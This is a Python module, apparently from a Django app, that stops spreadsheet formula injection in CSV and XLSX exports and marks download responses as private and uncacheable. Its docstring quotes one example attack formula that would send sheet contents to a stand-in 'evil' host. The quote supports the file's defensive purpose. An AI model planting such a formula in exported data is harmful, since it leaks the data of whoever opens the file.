"""The one guard for every CSV and XLSX export: text never runs as a spreadsheet formula.

A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a
formula by Excel and LibreOffice ("CSV injection"): a participant's name typed as
`=HYPERLINK("http://evil/?"&A1)` would leak data from the sheet of whoever opens the
export. `csv_row` prefixes such text with a quote (OWASP's advice), so it shows as typed.

An XLSX cell carries its type, so only what openpyxl itself would store as a formula (text
starting with `=`) needs care: `xlsx_append` writes it as a text cell, unchanged. A phone
number `+32 470…` or a note `- moved` stays exactly as typed, without a quote.
"""

from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse
from django.utils.cache import patch_cache_control
from openpyxl.cell import WriteOnlyCell

CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _plain(value: Any) -> Any:
    # Numbers, dates, booleans and None keep their type (a negative number is a number, not
    # a formula); anything else is written as text.
    if value is None or isinstance(value, (bool, int, float)) or hasattr(value, "isoformat"):
        return value
    return str(value)


def csv_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that could start a formula gets a `'`."""
    value = _plain(value)
    if isinstance(value, str) and value.startswith(CSV_FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """`csv_cell` applied to each value of a row."""
    return [csv_cell(value) for value in values]


def xlsx_append(sheet, values: Iterable[Any]) -> None:
    """Appends a row to an openpyxl sheet (normal or write-only) in which text starting with
    `=` is a text cell, not a formula; every other value is written as it is."""
    row = []
    for value in values:
        value = _plain(value)
        if isinstance(value, str) and value.startswith("="):
            # A detached cell (row and column are set by `append`), typed as text.
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        row.append(value)
    sheet.append(row)


def download(content, content_type: str, filename: str, *, inline: bool = False):
    """The response of every export and download: an attachment (or shown inline, a receipt)
    that no shared cache, proxy or browser history keeps (personal data)."""
    response = HttpResponse(content, content_type=content_type)
    disposition = "inline" if inline else "attachment"
    response["Content-Disposition"] = f'{disposition}; filename="{filename}"'
    private(response)
    return response


def private(response):
    """`Cache-Control: private, no-store` on a response that carries personal data."""
    patch_cache_control(response, private=True, no_store=True)
    return response
